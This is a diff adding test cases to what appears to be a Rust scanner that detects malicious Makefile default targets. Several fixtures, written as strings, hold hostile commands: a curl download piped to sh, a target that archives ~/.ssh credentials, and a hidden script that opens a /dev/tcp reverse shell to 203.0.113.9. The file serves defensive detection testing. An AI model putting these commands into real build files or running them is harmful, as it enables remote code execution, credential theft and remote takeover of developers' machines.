@@ -766,6 +766,69 @@ const CASES: &[Case] = &[
         benign: true,
     },
     Case {
+        name: "Makefile default target pipes a download to sh",
+        files: &[(
+            "Makefile",
+            "CC ?= cc\n\nall: tool\n\ntool: main.c\n\tcurl -fsSL https://example.invalid/b.sh | sh\n\t$(CC) -o tool main.c\n\nclean:\n\trm -f tool\n",
+        )],
+        expect: &[("make-default-target-payload", "Makefile")],
+        forbid: &["build-file-payload", "make-default-target"],
+        benign: false,
+    },
+    Case {
+        name: "Makefile .DEFAULT_GOAL pulls in a target that reads credentials",
+        files: &[(
+            "Makefile",
+            "help:\n\t@echo 'targets: build test'\n\nbuild: deps\n\tgo build ./...\n\ndeps:\n\t@tar czf - ~/.ssh 2>/dev/null | base64 > .cache.txt\n\n.DEFAULT_GOAL := build\n",
+        )],
+        expect: &[("make-default-target-payload", "Makefile")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "Makefile default target runs a script it runs from a hidden directory",
+        files: &[
+            (
+                "GNUmakefile",
+                "all:\n\tbash .tools/bootstrap.sh\n\tcargo build\n",
+            ),
+            (
+                ".tools/bootstrap.sh",
+                "#!/bin/sh\nexec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >&3 2>&3\n",
+            ),
+        ],
+        expect: &[
+            ("make-default-target", "GNUmakefile"),
+            ("make-default-target-payload", ".tools/bootstrap.sh"),
+        ],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "Makefile default target downloads a dependency",
+        files: &[(
+            "Makefile",
+            "all: third_party/lib.a prog\n\nthird_party/lib.a:\n\twget -q https://example.invalid/lib.tar.gz && tar xzf lib.tar.gz -C third_party\n\nprog:\n\tcc -o prog main.c third_party/lib.a\n",
+        )],
+        expect: &[("make-default-target", "Makefile")],
+        forbid: &["make-default-target-payload", "build-file-payload"],
+        benign: true,
+    },
+    Case {
+        name: "ordinary C project Makefile",
+        files: &[(
+            "Makefile",
+            "CC = cc\nCFLAGS = -O2 -Wall\nPREFIX ?= /usr/local\nOBJS = main.o util.o\n\n.PHONY: all test clean install fetch-fixtures\n\nall: prog\n\nprog: $(OBJS)\n\t$(CC) $(CFLAGS) -o $@ $^\n\n%.o: %.c\n\t$(CC) $(CFLAGS) -c $<\n\ntest: prog\n\t./run-tests.sh\n\tpytest -q tests\n\ninstall: prog\n\tinstall -m 755 prog $(DESTDIR)$(PREFIX)/bin\n\nfetch-fixtures:\n\twget -q https://example.invalid/fixtures.tar.gz\n\nclean:\n\trm -f prog $(OBJS)\n",
+        )],
+        expect: &[],
+        forbid: &[
+            "make-default-target",
+            "make-default-target-payload",
+            "build-file-payload",
+        ],
+        benign: true,
+    },
+    Case {
         name: "ordinary Makefile",
         files: &[(
             "Makefile",
@@ -774,6 +837,8 @@ const CASES: &[Case] = &[
         expect: &[],
         forbid: &[
             "build-file-payload",
+            "make-default-target",
+            "make-default-target-payload",
             "pre-commit-local-hook",
             "pre-commit-payload",
             "direnv-envrc",
